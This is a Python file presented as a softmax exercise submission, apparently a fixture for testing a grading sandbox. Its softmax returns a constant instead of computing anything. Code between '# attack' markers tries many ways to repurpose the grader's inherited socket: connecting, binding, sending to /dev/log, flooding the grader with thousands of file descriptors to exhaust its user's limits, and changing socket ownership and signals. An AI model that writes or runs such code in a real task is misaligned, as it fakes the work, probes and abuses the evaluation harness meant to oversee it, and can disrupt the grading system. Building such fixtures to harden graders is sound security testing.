"""Turns the one socket it holds, the grader's, into another: connects, binds, names a destination, passes on.

Exercise: perceptron/softmax
"""

import fcntl, os, socket

# attack
LOOT = []


def tried(ways):
    found = []
    for name, way in ways.items():
        try:
            found.append(f"{name}={way()!r}"[:200])
        except BaseException:
            pass
    return f"{len(found)} of {len(ways)} worked: {found}"


PORT = int("@PORT@")
def grader():
    return socket.socket(fileno=os.dup(3))


def passed():
    """Descriptors sent to the grader, by the hundred: they count against the user who grades."""
    sock, number = grader(), 0
    for _ in range(200):
        socket.send_fds(sock, [b""], [3] * 200)
        number += 200
    return number


UNSPECIFIED = b"\0" * 16
WAYS = {
    "connect": lambda: grader().connect("/dev/log"),
    "connect inet": lambda: socket.socket(socket.AF_INET, fileno=os.dup(3)).connect(("127.0.0.1", PORT)),
    "bind": lambda: grader().bind("\0@MARK@"),
    "listen": lambda: grader().listen(),
    "accept": lambda: grader().accept(),
    "sendto": lambda: grader().sendto(b"", "/dev/log"),
    "sendmsg": lambda: grader().sendmsg([b""], [], 0, "/dev/log"),
    "rights": passed,
    "shutdown": lambda: grader().shutdown(socket.SHUT_RD),
    "option": lambda: grader().setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30),
    "process": lambda: grader().getsockopt(socket.SOL_SOCKET, 77, 4),
    "ioctl": lambda: fcntl.ioctl(3, 0x894C),
    "owner": lambda: fcntl.fcntl(3, fcntl.F_SETOWN, os.getppid()),
    "signal": lambda: fcntl.fcntl(3, fcntl.F_SETFL, os.O_ASYNC),
}
# end


def softmax(X):
    # attack
    print(tried(WAYS))
    # end
    return X * 0 + 0.123
